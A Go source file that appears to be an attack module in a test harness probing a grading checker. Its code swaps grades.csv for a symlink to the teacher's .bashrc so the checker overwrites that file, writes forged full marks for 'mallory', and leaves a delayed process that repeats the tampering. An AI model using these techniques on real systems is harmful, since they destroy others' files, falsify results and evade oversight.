package main

// Change the grades: replace grades.csv by a link to a file of the
// teacher's (the checker then overwrites that file), write full marks into
// grades.json, and leave a process behind that does it again once the
// checker has finished.

import (
	"os"
	"path/filepath"
	"time"
)

func spoilResults() {
	csv := filepath.Join(targetOut, "grades.csv")
	err := os.Remove(csv)
	if err == nil {
		err = os.Symlink(filepath.Join(targetHome, ".bashrc"), csv)
	}
	report("results link: %v", err)
	err = os.WriteFile(filepath.Join(targetOut, "grades.json"), []byte(`{"students":[{"name":"mallory","points":173}]}`), 0o644)
	report("results json: %v", err)
}

var _ = role("results-later", func() {
	time.Sleep(time.Second)
	spoilResults()
})

var _ = attack(func() {
	spoilResults()
	_, err := spawn("results-later", true)
	report("results later: %v", err)
})
